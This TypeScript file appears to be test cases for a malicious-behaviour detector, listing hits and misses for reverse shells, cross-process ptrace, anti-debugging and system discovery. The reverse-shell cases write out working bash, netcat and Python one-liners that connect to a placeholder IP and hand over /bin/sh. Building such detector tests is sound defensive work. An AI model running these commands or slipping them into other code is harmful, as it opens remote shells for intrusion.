import { call } from '../evidence.js';
import { runs, calls, type Cases } from './cases.js';

export const execution: Readonly<Record<string, Cases>> = {
  reverse_shell: {
    hits: [
      runs('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'),
      runs('nc 203.0.113.5 4444 -e /bin/sh'),
      runs(
        'python3 -c import socket,os;s=socket.socket();s.connect(("203.0.113.5",1));os.dup2(s.fileno(),0)',
      ),
      calls(
        call('connect', ['3', '{sa_family=AF_INET, sin_port=htons(4444)}', '16']),
        call('execve', ['/bin/sh', '["sh"]'], { time: 1_800_000_001 }),
      ),
    ],
    misses: [
      runs('nc -z host 22'),
      calls(
        call('connect', ['3', '{sa_family=AF_UNIX, sun_path="/run/x"}']),
        call('execve', ['/bin/sh', '["sh"]']),
      ),
      calls(
        call('execve', ['/bin/sh', '["sh"]']),
        call('connect', ['3', '{sa_family=AF_INET}'], { time: 1_800_000_001 }),
      ),
      {
        processes: [
          { calls: [call('connect', ['3', '{sa_family=AF_INET}'])] },
          { calls: [call('execve', ['/bin/sh', '["sh"]'], { time: 1_800_000_001 })] },
        ],
      },
    ],
  },
  ptrace_other_process: {
    hits: [calls(call('ptrace', ['PTRACE_ATTACH', '77'])), calls(call('process_vm_writev', ['77']))],
    misses: [calls(call('ptrace', ['PTRACE_TRACEME'])), calls(call('process_vm_readv', ['77']))],
  },
  keeps_out_debuggers: {
    hits: [calls(call('ptrace', ['PTRACE_TRACEME'], { status: 'EPERM' }))],
    misses: [calls(call('ptrace', ['PTRACE_ATTACH', '7']))],
  },
  system_discovery: {
    hits: [runs('uname -a', 'id', 'ps aux')],
    misses: [runs('uname -a', 'uname -r', 'id'), runs('echo uname id ps')],
  },
};
